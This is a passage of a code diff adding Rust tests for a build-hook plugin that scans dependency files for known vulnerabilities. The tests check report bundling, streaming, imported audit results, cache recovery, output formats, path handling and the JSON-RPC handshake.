+        let root = fixture_workspace("reproducible", &files);
+
+        let params = json!({
+            "target": {"name": "app", "sources": FIXTURE_SOURCES},
+            "workspace": {
+                "root": root.display().to_string(),
+                "config": {"reproducible": true, "remediate": "suggest", "metrics_file": "metrics.prom"}
+            }
+        });
+        let run = || -> BTreeMap<String, String> {
+            let response = handle_pre_hook(&json!(1), Some(&params), None);
+            response["result"]["outputs"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|path| {
+                    let path = path.as_str().unwrap();
+                    (path.to_string(), report::hex(&Sha256::digest(fs::read(path).unwrap())))
+                })
+                .collect()
+        };
+
+        let first = run();
+        // Report, two manifest patches and the metrics file
+        assert_eq!(first.len(), 4, "{:?}", first.keys());
+        assert_eq!(first, run());
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn bundles_carry_every_output_and_unbundle_back_to_them() {
+        let root = fixture_workspace("bundle", &[("requirements.txt", b"django==2.2.0\n")]);
+        let params = |requirements: &[u8]| {
+            fs::write(root.join("requirements.txt"), requirements).unwrap();
+            json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {
+                    "root": root.display().to_string(),
+                    "config": {"report_bundle": true, "remediate": "suggest", "metrics_file": "metrics.prom"}
+                }
+            })
+        };
+        let read = |path: &Path| -> Value { serde_json::from_slice(&fs::read(path).unwrap()).unwrap() };
+
+        let result = handle_pre_hook(&json!(1), Some(&params(b"django==2.2.0\n")), None)["result"].clone();
+        let path = result["bundle"].as_str().unwrap();
+        assert!(path.ends_with(bundle::BUNDLE_FILE_NAME));
+        assert_eq!(result["outputs"].as_array().unwrap().last().unwrap(), path);
+        let bundled = read(Path::new(path));
+        let names: Vec<&String> = bundled["artifacts"].as_object().unwrap().keys().collect();
+        let patch = names.iter().find(|name| name.ends_with(".patch")).expect("a remediation patch");
+        assert_eq!(
+            names,
+            ["delta.json", "metadata.json", "metrics.prom", patch.as_str(), "security-report.json"]
+        );
+        assert_eq!(bundled["artifacts"]["metadata.json"]["content"]["target"], "app");
+        assert_eq!(bundled["artifacts"]["metadata.json"]["content"]["policy"]["passed"], true);
+        let delta = &bundled["artifacts"]["delta.json"]["content"];
+        assert_eq!((&delta["previous"], delta["new"].as_array().unwrap().len()), (&json!(false), 1));
+
+        let out = root.join("unbundled");
+        let args = ["unbundle", path, "--out", out.to_str().unwrap(), "security-report.json", "metrics.prom"];
+        let args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
+        let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
+        assert_eq!(run(&args, &mut io::empty(), &mut stdout, &mut stderr), 0, "{}", String::from_utf8_lossy(&stderr));
+        let report_dir = root.join(".builder-cache");
+        assert_eq!(read(&out.join("security-report.json")), read(&report_dir.join("security-report.json")));
+        assert_eq!(fs::read(out.join("metrics.prom")).unwrap(), fs::read(root.join("metrics.prom")).unwrap());
+
+        // Against the previous report, the fixed finding is resolved
+        let result = handle_pre_hook(&json!(1), Some(&params(b"django==4.2.0\n")), None)["result"].clone();
+        let bundled = read(Path::new(result["bundle"].as_str().unwrap()));
+        let delta = &bundled["artifacts"]["delta.json"]["content"];
+        assert_eq!(delta["previous"], true);
+        assert_eq!(delta["new"], json!([]));
+        assert_eq!(delta["resolved"][0]["package"], "django");
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn findings_stream_file_by_file_and_match_the_report() {
+        let testdata = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/workspace");
+        let contents: Vec<(&str, Vec<u8>)> = FIXTURE_SOURCES
+            .iter()
+            .filter_map(|s| fs::read(testdata.join(s)).ok().map(|c| (*s, c)))
+            .collect();
+        let files: Vec<(&str, &[u8])> = contents.iter().map(|(p, c)| (*p, c.as_slice())).collect();
+        let root = fixture_workspace("stream", &files);
+        let mut session = handshake::Session::default();
+        let info = json!({"jsonrpc": "2.0", "id": 1, "method": "plugin.info", "params": {
+            "notifications": [stream::FINDING_NOTIFICATION]
+        }});
+        let info = handle_request(&mut session, info, &mut io::sink(), &mut Diagnostics::default());
+        assert_eq!(info["result"]["notifications"], json!(["plugin.finding"]));
+
+        let request = json!({"jsonrpc": "2.0", "id": 2, "method": "build.pre_hook", "params": {
+            "target": {"name": "app", "sources": FIXTURE_SOURCES},
+            "workspace": {"root": root.display().to_string(), "config": {"findings_stream": "out/findings.ndjson"}}
+        }});
+        let mut notifications = Vec::new();
+        let response = handle_request(&mut session, request, &mut notifications, &mut Diagnostics::default());
+        let path = root.join("out/findings.ndjson");
+        assert!(response["result"]["outputs"].as_array().unwrap().contains(&json!(path.display().to_string())));
+
+        let lines = |text: &str| -> Vec<Value> { text.lines().map(|l| serde_json::from_str(l).unwrap()).collect() };
+        let streamed = lines(&fs::read_to_string(&path).unwrap());
+        let notified = lines(std::str::from_utf8(&notifications).unwrap());
+        assert!(notified.iter().all(|n| n["jsonrpc"] == "2.0" && n["method"] == "plugin.finding"));
+        assert_eq!(notified.iter().map(|n| &n["params"]).collect::<Vec<_>>(), streamed.iter().collect::<Vec<_>>());
+        let django = streamed.iter().find(|f| f["package"] == "django").unwrap();
+        assert_eq!((&django["purl"], &django["target"]), (&json!("pkg:pypi/django@2.2.0"), &json!("app")));
+
+        // Each file's findings together, in the order of their lines
+        let places: Vec<(&str, u64)> =
+            streamed.iter().map(|f| (f["file"].as_str().unwrap(), f["line"].as_u64().unwrap())).collect();
+        for pair in places.windows(2) {
+            assert!(pair[0].0 != pair[1].0 || pair[0].1 <= pair[1].1, "{:?}", places);
+        }
+        let mut files: Vec<&str> = places.iter().map(|(file, _)| *file).collect();
+        files.dedup();
+        assert_eq!(files.len(), files.iter().collect::<BTreeSet<_>>().len(), "{:?}", files);
+
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        let fingerprints = |findings: &[Value]| -> BTreeSet<String> {
+            findings.iter().map(|f| f["fingerprint"].as_str().unwrap().to_string()).collect()
+        };
+        let reported = report["vulnerabilities"].as_array().unwrap();
+        assert_eq!(fingerprints(&streamed), fingerprints(reported));
+        assert_eq!(streamed.len(), reported.len());
+
+        // Hosts that didn't ask get none
+        let request = json!({"jsonrpc": "2.0", "id": 3, "method": "plugin.info"});
+        handle_request(&mut session, request, &mut io::sink(), &mut Diagnostics::default());
+        let mut notifications = Vec::new();
+        let request = json!({"jsonrpc": "2.0", "id": 4, "method": "build.pre_hook", "params": {
+            "target": {"name": "app", "sources": FIXTURE_SOURCES},
+            "workspace": {"root": root.display().to_string()}
+        }});
+        handle_request(&mut session, request, &mut notifications, &mut Diagnostics::default());
+        assert!(notifications.is_empty());
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn imported_results_merge_with_the_plugins_own_findings() {
+        let imports = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/imports");
+        let advisory = json!({
+            "id": "GHSA-6r97-cj55-9hrq",
+            "aliases": ["CVE-2019-14234"],
+            "summary": "SQL injection in Django",
+            "database_specific": {"severity": "HIGH"},
+            "affected": [{
+                "package": {"ecosystem": "PyPI", "name": "django"},
+                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "2.2"}, {"fixed": "2.2.4"}]}]
+            }]
+        })
+        .to_string();
+        let files = [
+            ("requirements.txt", b"django==2.2.0\n".to_vec()),
+            ("osv/GHSA-6r97-cj55-9hrq.json", advisory.into_bytes()),
+            ("audit/pip-audit.json", fs::read(imports.join("pip-audit-2.json")).unwrap()),
+            ("audit/cargo-audit.json", fs::read(imports.join("cargo-audit-0.18.json")).unwrap()),
+        ];
+        let files: Vec<(&str, &[u8])> = files.iter().map(|(p, c)| (*p, c.as_slice())).collect();
+        let root = fixture_workspace("imports", &files);
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt"]},
+            "workspace": {"root": root.display().to_string(), "config": {
+                "db_path": "osv",
+                "import_results": ["audit/pip-audit.json", "audit/cargo-audit.json"],
+                "fail_on_high": true
+            }}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        assert_eq!(result["success"], false);
+
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        // One finding, under the first source's id, that both reported
+        let [django] = &report["vulnerabilities"].as_array().unwrap()[..] else {
+            panic!("{:#}", report["vulnerabilities"]);
+        };
+        assert_eq!(django["id"], "GHSA-6r97-cj55-9hrq");
+        assert_eq!((&django["severity"], &django["fixed_in"]), (&json!("HIGH"), &json!("2.2.4")));
+        assert!(django["aliases"].as_array().unwrap().contains(&json!("PYSEC-2019-12")));
+        let sources: Vec<&str> =
+            django["provenance"].as_array().unwrap().iter().map(|p| p["source"].as_str().unwrap()).collect();
+        assert_eq!(sources, ["osv-local", "pip-audit"]);
+        let databases: Vec<&str> =
+            report["databases"].as_array().unwrap().iter().map(|d| d["source"].as_str().unwrap()).collect();
+        assert_eq!(databases, ["osv-local", "pip-audit", "cargo-audit"]);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn a_scan_after_cache_files_were_cut_short_recovers_them() {
+        let advisory = json!({
+            "id": "GHSA-6r97-cj55-9hrq",
+            "database_specific": {"severity": "HIGH"},
+            "affected": [{
+                "package": {"ecosystem": "PyPI", "name": "django"},
+                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "2.0"}, {"fixed": "3.0"}]}]
+            }]
+        })
+        .to_string();
+        let files: [(&str, &[u8]); 1] = [("osv/GHSA-6r97-cj55-9hrq.json", advisory.as_bytes())];
+        let root = fixture_workspace("truncated-cache", &files);
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt"]},
+            "workspace": {"root": root.display().to_string(), "config": {
+                "db_path": root.join("osv").display().to_string(),
+                "db_index": "disk"
+            }}
+        });
+        // Another version every scan, so the query cache doesn't answer
+        // for the index
+        let scans = std::cell::Cell::new(0);
+        let scan = || {
+            scans.set(scans.get() + 1);
+            fs::write(root.join("requirements.txt"), format!("django==2.{}.0\n", scans.get())).unwrap();
+            let _ = fs::remove_file(root.join(".builder-cache/security-report.json"));
+            let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+            assert_eq!(result["success"], true, "{:#}", result);
+            let report: Value =
+                serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+            let ids: Vec<&Value> = report["vulnerabilities"].as_array().unwrap().iter().map(|v| &v["id"]).collect();
+            assert_eq!(ids, [&json!("GHSA-6r97-cj55-9hrq")], "{:#}", result["logs"]);
+        };
+        scan();
+
+        let cache = root.join(".builder-cache/security");
+        let snapshots = fs::read_dir(cache.join("db/snapshots")).unwrap().flatten().map(|e| e.path());
+        assert_eq!(snapshots.filter(|p| p.extension().is_some_and(|e| e == "kv")).count(), 1);
+        let cached = || {
+            let (mut dirs, mut files) = (vec![cache.clone()], Vec::new());
+            while let Some(dir) = dirs.pop() {
+                for path in fs::read_dir(&dir).unwrap().flatten().map(|entry| entry.path()) {
+                    if path.is_dir() {
+                        dirs.push(path);
+                    } else {
+                        files.push(path);
+                    }
+                }
+            }
+            files
+        };
+        // One file at a time, as a crash mid-write would leave it
+        for cut in [0, 1, 7, 40, 200] {
+            for path in cached() {
+                if fs::metadata(&path).unwrap().len() > cut {
+                    fs::OpenOptions::new().write(true).open(&path).unwrap().set_len(cut).unwrap();
+                    scan();
+                }
+            }
+        }
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn roots_are_scanned_each_on_its_own_against_advisories_refreshed_once() {
+        let advisory = json!({
+            "id": "GHSA-6r97-cj55-9hrq",
+            "summary": "SQL injection in Django",
+            "database_specific": {"severity": "HIGH"},
+            "affected": [{
+                "package": {"ecosystem": "PyPI", "name": "django"},
+                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "2.2"}, {"fixed": "2.2.4"}]}]
+            }]
+        })
+        .to_string();
+        let files: [(&str, &[u8]); 4] = [
+            ("services/api/requirements.txt", b"django==2.2.0\n"),
+            ("services/web/requirements.txt", b"django==2.2.1\n"),
+            ("tools/requirements.txt", b"django==2.2.2\n"),
+            ("osv/GHSA-6r97-cj55-9hrq.json", advisory.as_bytes()),
+        ];
+        let root = fixture_workspace("roots", &files);
+        let sources = ["services/api/requirements.txt", "services/web/requirements.txt", "tools/requirements.txt"];
+        let params = json!({
+            "target": {"name": "app", "sources": sources},
+            "workspace": {
+                "root": root.display().to_string(),
+                "roots": ["services/api", "services/web"],
+                "config": {"db_path": root.join("osv").display().to_string(), "fail_on_high": true}
+            }
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        schema::assert_valid("roots-result", &result);
+        assert_eq!(result["success"], false);
+        let logs = result["logs"].as_array().unwrap();
+        assert!(logs.contains(&json!("[Security] 1 sources under none of workspace.roots were not scanned")));
+
+        let roots = result["roots"].as_array().unwrap();
+        let names: Vec<&str> = roots.iter().map(|r| r["root"].as_str().unwrap()).collect();
+        assert_eq!(names, ["services/api", "services/web"]);
+        for (scan, version) in roots.iter().zip(["2.2.0", "2.2.1"]) {
+            let hash = scan["hash"].as_str().unwrap();
+            assert_eq!(hash, roots::hash(scan["root"].as_str().unwrap()));
+            let report = root.join(".builder-cache/roots").join(hash).join("security-report.json");
+            let report: Value = serde_json::from_slice(&fs::read(report).unwrap()).unwrap();
+            let [django] = &report["vulnerabilities"].as_array().unwrap()[..] else {
+                panic!("{:#}", report["vulnerabilities"]);
+            };
+            assert_eq!((&django["root"], &django["version"]), (&scan["root"], &json!(version)));
+            assert_eq!(django["file"], "requirements.txt");
+        }
+        assert!(!root.join(".builder-cache/security-report.json").exists());
+
+        // The second root matched against what the first refreshed
+        let refreshed = |logs: &[Value]| {
+            logs.iter().any(|l| l.as_str().unwrap().contains("refreshed for the first root"))
+        };
+        let web = logs.iter().position(|l| l.as_str().unwrap().starts_with("[Security] Root services/web")).unwrap();
+        assert!(!refreshed(&logs[..web]) && refreshed(&logs[web..]));
+    }
+
+    #[test]
+    fn a_profiled_scan_times_its_phases_and_files() {
+        let root = fixture_workspace("profile", &[("requirements.txt", b"django==2.2.0\nrequests==2.25.0\n")]);
+        let params = json!({
+            "target": {"name": "//app:main", "sources": ["requirements.txt"]},
+            "workspace": {"root": root.display().to_string(), "config": {
+                "demo_db": true, "profile": true, "verbosity": "debug"
+            }}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        let logs: Vec<&str> = result["logs"].as_array().unwrap().iter().map(|l| l.as_str().unwrap()).collect();
+        let files = logs.iter().position(|l| *l == "  [debug] Slowest files:").unwrap();
+        assert!(logs[files + 1].contains("requirements.txt ("), "{:?}", logs);
+
+        let path = root.join(".builder-cache/security/profiles/__app_main.json");
+        assert!(logs.contains(&format!("  Scan profile written to {}", path.display()).as_str()));
+        let profile: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
+        let events = profile["traceEvents"].as_array().unwrap();
+        let phases: Vec<&str> =
+            events.iter().filter(|e| e["cat"] == "phase").map(|e| e["name"].as_str().unwrap()).collect();
+        assert_eq!(phases, ["db_refresh", "discovery", "extract", "match", "report"]);
+        let size = fs::metadata(root.join("requirements.txt")).unwrap().len();
+        for phase in ["extract", "match"] {
+            let file = events.iter().find(|e| e["cat"] == phase).unwrap();
+            assert_eq!((&file["name"], &file["args"]["bytes"]), (&json!("requirements.txt"), &json!(size)));
+        }
+
+        // Not asked for, nothing is timed or written
+        fs::remove_dir_all(path.parent().unwrap()).unwrap();
+        let mut params = params;
+        params["workspace"]["config"]["profile"] = json!(false);
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        assert!(!result["logs"].as_array().unwrap().iter().any(|l| l.as_str().unwrap().contains("Slowest")));
+        assert!(!path.parent().unwrap().exists());
+    }
+
+    #[cfg(feature = "templates")]
+    #[test]
+    fn report_templates_render_findings_summary_and_metadata() {
+        let template = concat!(
+            "# {{metadata.target}}: {{summary.total}} findings\n",
+            "{{#each findings}}- {{id}} in {{package}} {{version}} ({{severity}})",
+            "{{#if fixed_in}}, fixed in {{fixed_in}}{{/if}}\n{{/each}}",
+            "schema {{metadata.schema_version}}, policy passed: {{summary.policy.passed}}\n",
+        );
+        let root = fixture_workspace(
+            "templates",
+            &[
+                ("requirements.txt", b"django==2.2.0\n"),
+                ("ci/jira.md.hbs", template.as_bytes()),
+                ("ci/broken.txt.hbs", b"{{#each findings}}\n{{advisory}}\n{{/each}}"),
+            ],
+        );
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt"]},
+            "workspace": {
+                "root": root.display().to_string(),
+                "config": {"report_formats": ["json", "jira"], "report_templates": {"jira": "ci/jira.md.hbs"}}
+            }
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        let path = root.join(".builder-cache/security-report-jira.md");
+        let outputs: Vec<&str> = result["outputs"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
+        assert!(outputs.contains(&path.display().to_string().as_str()), "{:?}", outputs);
+        let rendered = fs::read_to_string(&path).unwrap();
+        assert!(rendered.starts_with("# app: 1 findings\n- "), "{}", rendered);
+        assert!(rendered.contains(" in django 2.2.0 (CRITICAL), fixed in 2.2.24\n"), "{}", rendered);
+        assert!(rendered.ends_with(&format!("schema {}, policy passed: true\n", report::REPORT_SCHEMA_VERSION)));
+
+        // A field the findings don't have fails that report only, naming the line
+        let mut params = params;
+        params["workspace"]["config"]["report_formats"] = json!(["json", "broken"]);
+        params["workspace"]["config"]["report_templates"] = json!({"broken": "ci/broken.txt.hbs"});
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        let logs = result["logs"].as_array().unwrap().iter().filter_map(Value::as_str).collect::<Vec<_>>().join("\n");
+        let error = "Could not render broken report: broken.txt.hbs:2: `advisory` is missing: no field `advisory`";
+        assert!(logs.contains(error), "{}", logs);
+        assert!(!root.join(".builder-cache/security-report-broken.txt").exists());
+        assert!(root.join(".builder-cache/security-report.json").exists());
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[cfg(feature = "sarif")]
+    #[test]
+    fn sarif_reports_locate_findings_at_their_declarations() {
+        let root = fixture_workspace("sarif", &[("requirements.txt", b"flask==2.0.1\ndjango==2.2.0\n")]);
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt"]},
+            "workspace": {"root": root.display().to_string(), "config": {"report_formats": ["sarif"]}}
+        });
+        let result = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        let path = root.join(".builder-cache/security-report.sarif");
+        let outputs: Vec<&str> = result["outputs"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
+        assert!(outputs.contains(&path.display().to_string().as_str()), "{:?}", outputs);
+        let log: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
+        assert_eq!(log["version"], "2.1.0");
+        let run = &log["runs"][0];
+        assert_eq!(run["tool"]["driver"]["name"], PLUGIN_NAME);
+        let result = &run["results"][0];
+        assert_eq!(result["level"], "error");
+        assert!(result["message"]["text"].as_str().unwrap().starts_with("django 2.2.0: "), "{}", result);
+        let location = &result["locations"][0]["physicalLocation"];
+        assert_eq!(location["artifactLocation"]["uri"], "requirements.txt");
+        assert_eq!(location["region"]["startLine"], 2);
+        assert_eq!(run["tool"]["driver"]["rules"][0]["id"], result["ruleId"]);
+        assert!(!root.join(".builder-cache/security-report.json").exists());
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn crlf_requirements_versions_have_no_carriage_return() {
+        let root = fixture_workspace("crlf-req", &[("app/requirements.txt", b"django==2.2.0\r\nrequests==2.25.0\r\n")]);
+        let deps = extract(&root, r"app\requirements.txt");
+        assert_eq!(
+            deps,
+            vec![
+                ("django".to_string(), "2.2.0".to_string()),
+                ("requests".to_string(), "2.25.0".to_string())
+            ]
+        );
+        let _ = fs::remove_dir_all(root);
+    }
+
+    #[test]
+    fn crlf_yarn_lock_and_go_sum_parse_like_lf() {
+        let root = fixture_workspace(
+            "crlf-lock",
+            &[
+                ("web/yarn.lock", b"lodash@^4.17.15:\r\n  version \"4.17.15\"\r\n"),
+                ("svc/go.sum", b"golang.org/x/net v0.7.0 h1:abc=\r\ngolang.org/x/net v0.7.0/go.mod h1:def=\r\n"),
+            ],
+        );
+        assert_eq!(extract(&root, r"web\yarn.lock"), vec![("lodash".to_string(), "4.17.15".to_string())]);
+        assert_eq!(extract(&root, r"svc\go.sum"), vec![("golang.org/x/net".to_string(), "0.7.0".to_string())]);
+        let _ = fs::remove_dir_all(root);
+    }
+
+    #[test]
+    fn backslash_sources_are_recognized_as_dependency_files() {
+        let root = fixture_workspace("crlf-match", &[("app/requirements.txt", b"django==2.2.0\r\n")]);
+        let mut scanner = SecurityScanner::new(root.to_string_lossy().into_owned(), ScanConfig::default());
+        let mut logs = Vec::new();
+        let sources = [r"app\requirements.txt".to_string()];
+        let found = scanner.scan_for_vulnerabilities(&sources, &mut FindingStream::default(), &mut logs);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].package, "django");
+        let _ = fs::remove_dir_all(root);
+    }
+
+    #[test]
+    fn absolute_and_dotted_sources_are_reported_workspace_relative() {
+        let root = fixture_workspace("abs-sources", &[("app/requirements.txt", b"django==2.2.0\n")]);
+        let absolute = root.canonicalize().unwrap().join("app/requirements.txt").to_string_lossy().into_owned();
+        for source in [absolute.as_str(), "./app/requirements.txt", "app/lib/../requirements.txt"] {
+            let mut scanner = SecurityScanner::new(root.to_string_lossy().into_owned(), ScanConfig::default());
+            let sources = [source.to_string()];
+            let found = scanner.scan_for_vulnerabilities(&sources, &mut FindingStream::default(), &mut Vec::new());
+            assert_eq!(found.len(), 1, "{}", source);
+            assert_eq!(found[0].file.as_deref(), Some("app/requirements.txt"), "{}", source);
+            assert_eq!(scanner.scanned_files[0].path, "app/requirements.txt", "{}", source);
+        }
+
+        // Escapes are still caught against the canonical root
+        let mut scanner = SecurityScanner::new(root.to_string_lossy().into_owned(), ScanConfig::default());
+        fs::write(root.join("../abs-sources-outside.txt"), "django==2.2.0\n").unwrap();
+        let escape = "app/../../abs-sources-outside.txt".to_string();
+        let found = scanner.scan_for_vulnerabilities(&[escape], &mut FindingStream::default(), &mut Vec::new());
+        assert!(found.is_empty());
+        let _ = fs::remove_file(root.join("../abs-sources-outside.txt"));
+        let _ = fs::remove_dir_all(root);
+    }
+
+    #[test]
+    fn timed_out_scans_are_partial_and_only_fail_with_fail_on_partial() {
+        let root = fixture_workspace("timeout", &[("requirements.txt", b"django==2.2.0\n")]);
+        let run = |fail_on_partial: bool| {
+            let params = json!({
+                "target": {"name": "app", "sources": ["requirements.txt"]},
+                "workspace": {
+                    "root": root.display().to_string(),
+                    "config": {"fail_on_critical": true, "fail_on_partial": fail_on_partial, "extract_budget_secs": 0}
+                }
+            });
+            handle_pre_hook(&json!(1), Some(&params), None)["result"].clone()
+        };
+
+        // The critical django finding was never read, so only
+        // fail_on_partial can fail the hook
+        let result = run(false);
+        assert_eq!(result["success"], true);
+        assert_eq!(result["partial"], true);
+        assert_eq!(
+            result["timed_out"],
+            json!([{"phase": "extract", "limit": "extract_budget_secs", "completed": "0 of 1 dependency files read"}])
+        );
+        assert_eq!(run(true)["success"], false);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn the_library_scans_a_workspace_as_the_pre_hook_does() {
+        let root = fixture_workspace("library", &[("requirements.txt", b"django==2.2.0\n")]);
+        let workspace = Workspace::new(&root, vec!["requirements.txt".to_string()]).target("app");
+        let result = Scanner::new(Config::default()).scan(&workspace).unwrap();
+        assert!(result.vulnerabilities.iter().all(|v| v.package == "django") && !result.vulnerabilities.is_empty());
+        let report: Value = serde_json::from_str(result.report.as_deref().unwrap()).unwrap();
+        assert_eq!(report["vulnerabilities"].as_array().unwrap().len(), result.vulnerabilities.len());
+
+        let params = json!({
+            "target": {"name": "app", "sources": ["requirements.txt"]},
+            "workspace": {"root": root.display().to_string()}
+        });
+        let hook = handle_pre_hook(&json!(1), Some(&params), None)["result"].clone();
+        let keys = |value: &Value| value.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
+        assert_eq!(keys(&hook), keys(&serde_json::to_value(&result).unwrap()));
+        assert_eq!((&hook["success"], &hook["errors"]), (&json!(result.success), &json!(result.errors)));
+
+        let missing = Workspace::new(root.join("missing"), Vec::new());
+        let error = Scanner::new(Config::default()).scan(&missing).err().unwrap();
+        assert!(matches!(error, ScanError::WorkspaceUnreadable { .. }), "{}", error);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn plugin_info_checks_the_host_version_and_api() {
+        let root = fixture_workspace("handshake", &[("requirements.txt", b"django==2.2.0\n")]);
+        let mut session = handshake::Session::default();
+        let info = json!({"id": 1, "method": "plugin.info", "params": {"builderVersion": "0.9.0", "maxPluginApi": 1}});
+        let mut diagnostics = Diagnostics::default();
+        let info = handle_request(&mut session, info, &mut io::sink(), &mut diagnostics)["result"].clone();
+        let warning = &diagnostics.lines()[0];
+        assert!(warning.contains(" WARN  handshake: Builder 0.9.0 is older than 1.0.0"), "{}", warning);
+        assert_eq!(info["minBuilderVersion"], "1.0.0");
+        let features = info["features"].as_array().unwrap();
+        assert_eq!(features.contains(&json!("archive-scan")), cfg!(feature = "archive-scan"));
+        assert_eq!(features.contains(&json!("otel")), cfg!(feature = "otel"));
+        assert_eq!(info["pluginApi"], 1);
+        assert_eq!(info["warnings"][0]["kind"], "builder_version_unsupported");
+        assert_eq!(info["capabilities"], json!(["build.pre_hook", "build.post_hook"]));
+        assert!(info["disabled"].as_array().unwrap().contains(&json!("hook result field errors (plugin API 2)")));
+
+        // Warned only: the hook runs, with what plugin API 1 has
+        let workspace = json!({"root": root.display().to_string()});
+        let scan = |session: &mut handshake::Session, workspace: &Value| {
+            let params = json!({"target": {"name": "app", "sources": ["requirements.txt"]}, "workspace": workspace});
+            let request = json!({"id": 2, "method": "build.pre_hook", "params": params});
+            handle_request(session, request, &mut io::sink(), &mut Diagnostics::default())
+        };
+        let result = scan(&mut session, &workspace)["result"].clone();
+        let fields: Vec<&String> = result.as_object().unwrap().keys().collect();
+        assert_eq!(fields, ["logs", "success"]);
+        let request = json!({"id": 3, "method": "plugin.schema"});
+        let response = handle_request(&mut session, request, &mut io::sink(), &mut Diagnostics::default());
+        assert_eq!(response["error"]["code"], -32601);
+
+        let mut strict = workspace.clone();
+        strict["config"] = json!({"strict_version_check": true});
+        let error = scan(&mut session, &strict)["error"].clone();
+        assert_eq!(error["code"], -32007);
+        assert_eq!(error["data"]["kind"], "version_unsupported");
+
+        // A supported host gets everything back
+        let info = json!({"id": 4, "method": "plugin.info", "params": {"builderVersion": "1.4.0-rc.1"}});
+        let info = handle_request(&mut session, info, &mut io::sink(), &mut Diagnostics::default());
+        assert!(info["result"].get("warnings").is_none());
+        assert!(scan(&mut session, &strict)["result"]["errors"].is_array());
+
+        // The sources' status, once a scan has created the cache
+        let info = |session: &mut handshake::Session, root: &Path| {
+            let params = json!({"builderVersion": "1.4.0", "workspace": {"root": root.display().to_string()}});
+            let request = json!({"id": 5, "method": "plugin.info", "params": params});
+            handle_request(session, request, &mut io::sink(), &mut Diagnostics::default())["result"].clone()
+        };
+        assert!(info(&mut session, &root.join("fresh")).get("status").is_none());
+        let status = info(&mut session, &root)["status"].clone();
+        assert_eq!(status["summary"], "builtin-demo demo data only");
+        assert_eq!(status["degraded"], true);
+        assert!(status["cache_bytes"]["history"].as_u64().unwrap() > 0, "{}", status);
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn responses_echo_string_negative_large_and_duplicate_ids() {
+        let ids = [
+            json!("req-42"),
+            json!(-7),
+            json!(u64::MAX),
+            json!(9_007_199_254_740_993_i64),
+            json!(1.5),
+            json!("req-42"),
+        ];
+        let mut input: String = ids
+            .iter()
+            .enumerate()
+            .map(|(i, id)| match i % 2 {
+                0 => format!("{}\n", json!({"jsonrpc": "2.0", "id": id, "method": "plugin.info"})),
+                _ => format!("{}\n", json!({"jsonrpc": "2.0", "id": id, "method": "plugin.nonexistent"})),
+            })
+            .collect();
+        input.push_str("{\"jsonrpc\": \"2.0\", \"id\": {\"a\": 1}, \"method\": \"plugin.nonexistent\"}\n");
+        input.push_str("{\"jsonrpc\": \"2.0\", \"id\": 8, \"method\": \"plugin.info\"\n");
+
+        let mut out = Vec::new();
+        assert_eq!(plugin::run(&[], &mut input.as_bytes(), &mut out, &mut io::sink()), 0);
+        let responses: Vec<Value> =
+            String::from_utf8(out).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+        let echoed: Vec<&Value> = responses.iter().map(|r| &r["id"]).collect();
+        assert_eq!(echoed[..ids.len()], ids.iter().collect::<Vec<_>>()[..]);
+        // Not rounded through a float, nor truncated to i64
+        assert!(serde_json::to_string(&responses[3]).unwrap().contains("\"id\":9007199254740993"));
+        assert_eq!(responses[2]["id"].as_u64(), Some(u64::MAX));
+        // Error responses keep the id too, and one of no valid type is null
+        assert_eq!(responses[1]["error"]["code"], -32601);
+        assert_eq!(responses[ids.len()]["error"]["code"], -32601);
+        assert_eq!(responses[ids.len()]["id"], Value::Null);
+        // So is the one to a line that isn't JSON at all, whose id can't be read
+        assert_eq!(responses[ids.len() + 1]["id"], Value::Null);
+        assert_eq!(responses[ids.len() + 1]["error"]["code"], -32700);
+        assert_eq!(responses[ids.len() + 1]["error"]["data"]["kind"], "parse_error");
+        // Each of two requests with the same id gets its own response
+        assert_eq!(responses[0]["result"]["name"], "security");
+        assert_eq!(responses[5]["error"]["code"], -32601);
+    }
+
+    #[test]
